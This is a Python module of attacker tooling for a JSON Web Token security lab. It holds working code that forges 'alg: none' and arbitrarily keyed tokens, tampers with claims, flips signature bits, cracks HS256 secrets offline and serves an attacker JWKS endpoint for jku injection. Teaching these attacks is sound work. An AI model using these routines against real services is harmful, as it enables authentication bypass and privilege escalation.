"""Attacker tooling for JSON Web Tokens (lab 02-jwt): read, tamper, forge and crack.

Everything here works on the compact serialisation ``header.claims.signature`` (RFC 7515
§7.1) with plain ``base64url`` and ``hmac``, the way attack tools (jwt_tool, Burp's JWT
Editor) do: no verification library stands between you and the bytes.

>>> token = forge({"alg": "none"}, {"sub": "1", "role": "admin"})
>>> token
'eyJhbGciOiAibm9uZSJ9.eyJzdWIiOiAiMSIsICJyb2xlIjogImFkbWluIn0.'
>>> decode_unverified(token)[1]["role"]
'admin'
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

__all__ = [
    "b64url_decode",
    "b64url_encode",
    "crack_hs256",
    "decode_unverified",
    "flip_signature_bit",
    "forge",
    "jwks_app",
    "new_rsa_key",
    "pem_from_jwk",
    "rsa_jwk",
    "tamper",
    "with_signature",
]

_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url_encode(data: bytes) -> str:
    """base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _segment(obj: dict[str, Any]) -> str:
    return b64url_encode(json.dumps(obj).encode())


def decode_unverified(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """``(header, claims)`` of a token, *without* checking anything (anyone can read a JWT)."""
    head, body, _ = token.split(".")
    return json.loads(b64url_decode(head)), json.loads(b64url_decode(body))


def forge(
    header: dict[str, Any],
    claims: dict[str, Any],
    key: bytes | rsa.RSAPrivateKey | None = None,
) -> str:
    """A token with any header and claims, signed per ``header["alg"]``.

    ``HS256/384/512`` sign with the bytes ``key`` (any length, even empty), ``RS256`` with an
    RSA private key; ``none`` (any casing) or ``key=None`` leave the signature empty.
    """
    signing_input = f"{_segment(header)}.{_segment(claims)}".encode()
    alg = str(header.get("alg", ""))
    if key is None or alg.lower() == "none":
        signature = b""
    elif alg in _HMAC and isinstance(key, bytes):
        signature = hmac.new(key, signing_input, _HMAC[alg]).digest()
    elif alg == "RS256" and isinstance(key, rsa.RSAPrivateKey):
        signature = key.sign(signing_input, padding.PKCS1v15(), hashes.SHA256())
    else:
        raise ValueError(f"cannot sign alg {alg!r} with a {type(key).__name__}")
    return f"{signing_input.decode()}.{b64url_encode(signature)}"


def tamper(token: str, header: dict[str, Any] | None = None, **claims: Any) -> str:
    """The same token with header fields and claims changed, *keeping the old signature*."""
    old_header, old_claims = decode_unverified(token)
    signature = token.rsplit(".", 1)[1]
    new_header = {**old_header, **(header or {})}
    return f"{_segment(new_header)}.{_segment({**old_claims, **claims})}.{signature}"


def with_signature(token: str, signature: bytes) -> str:
    """The token with its signature replaced (``b""``: a null signature)."""
    return f"{token.rsplit('.', 1)[0]}.{b64url_encode(signature)}"


def flip_signature_bit(token: str, byte: int = 20, bit: int = 0) -> str:
    """The token with one bit of its signature flipped (byte ``byte``, bit ``bit``).

    Flipping the low bits of the *last base64 character* may not change the decoded bytes at
    all; this flips a bit of the decoded signature itself.
    """
    signature = bytearray(b64url_decode(token.rsplit(".", 1)[1]))
    signature[byte % len(signature)] ^= 1 << bit
    return with_signature(token, bytes(signature))


def crack_hs256(token: str, wordlist: Iterable[str]) -> str | None:
    """The HMAC secret of an HS256/384/512 token from ``wordlist``, or None.

    Offline: one HMAC per guess, no request to the server, so no rate limit applies.
    """
    header, _ = decode_unverified(token)
    digest = _HMAC[header["alg"]]
    signing_input, signature = token.rsplit(".", 1)
    target = b64url_decode(signature)
    message = signing_input.encode()
    for word in wordlist:
        if hmac.compare_digest(hmac.new(word.encode(), message, digest).digest(), target):
            return word
    return None


def new_rsa_key() -> rsa.RSAPrivateKey:
    """A fresh RSA-2048 key pair for the attacker."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def rsa_jwk(key: rsa.RSAPrivateKey | rsa.RSAPublicKey, kid: str = "attacker") -> dict[str, str]:
    """The public JWK (RFC 7517 §4, RFC 7518 §6.3.1) of an RSA key."""
    public = key.public_key() if isinstance(key, rsa.RSAPrivateKey) else key
    numbers = public.public_numbers()

    def as_b64(value: int) -> str:
        return b64url_encode(value.to_bytes((value.bit_length() + 7) // 8, "big"))

    return {"kty": "RSA", "kid": kid, "use": "sig", "alg": "RS256",
            "n": as_b64(numbers.n), "e": as_b64(numbers.e)}  # fmt: skip


def pem_from_jwk(jwk: dict[str, Any]) -> bytes:
    """The PEM (SubjectPublicKeyInfo) form of a public RSA JWK, as servers store it on disk."""
    numbers = rsa.RSAPublicNumbers(
        int.from_bytes(b64url_decode(jwk["e"]), "big"),
        int.from_bytes(b64url_decode(jwk["n"]), "big"),
    )
    return numbers.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def jwks_app(jwks: dict[str, Any]) -> Any:
    """A tiny ASGI app serving ``jwks`` at ``/jwks.json``: the attacker's key server for a
    ``jku`` header (run it in a ``labkit.sandbox.Sandbox``)."""
    body = json.dumps(jwks).encode()

    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            return
        found = scope["path"] == "/jwks.json"
        await send({
            "type": "http.response.start",
            "status": 200 if found else 404,
            "headers": [(b"content-type", b"application/json")],
        })  # fmt: skip
        await send({"type": "http.response.body", "body": body if found else b"{}"})

    return app
